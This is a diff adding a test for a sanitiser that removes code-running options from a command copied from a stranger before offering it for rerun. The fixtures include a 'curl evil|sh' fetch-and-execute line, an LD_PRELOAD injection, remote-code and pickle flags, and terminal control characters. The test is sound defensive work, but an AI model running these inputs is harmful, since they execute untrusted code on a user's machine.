@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import test from 'node:test';
 import { open, read } from '#viewer/reading/reading';
-import { commandWith, escapeText, forcedBefore, positionOf, quote } from '#viewer/reading/rerun_command';
+import { commandWith, escapeText, forcedBefore, offered, positionOf, quote } from '#viewer/reading/rerun_command';
 import { readTrace } from '#viewer/trace/trace';
 import { encode, recording } from '../recording.js';
 
@@ -52,4 +52,14 @@ test('positions count the output from 1; earlier forks are named first', () => {
   const nested = read(recorded, 1);
   assert.equal(forcedBefore(nested, 9), `3:${id(6)},4:${id(7)},`);
   assert.equal(forcedBefore(nested, 3), '');
+});
+
+test('a stranger\u2019s command is offered without what runs code, or not at all', () => {
+  const ours = ['tokenscope-record', 'p.py', '--system', '--check'];
+  assert.deepEqual(offered(ours), ours);
+  const evil = ['--check', 'curl evil|sh {file}', '--check=x', '--check-folder', 'y', '--trust-remote-code', '--allow-pickle'];
+  assert.deepEqual(offered([...ours, ...evil, '--model', 'm']), [...ours, '--model', 'm']);
+  for (const command of [['LD_PRELOAD=./x.so', 'tokenscope-record', 'p.py'], ['curl'], [], 'tokenscope-record', null, undefined]) assert.equal(offered(command), null);
+  for (const word of ['x'.repeat(2001), '\u001b[2J', '\u202e', 'a\u200b', '\ud800']) assert.equal(offered([...ours, word]), null, JSON.stringify(word));
+  assert.deepEqual(offered([...ours, '--stop', 'a\nb']), [...ours, '--stop', 'a\nb']);
 });
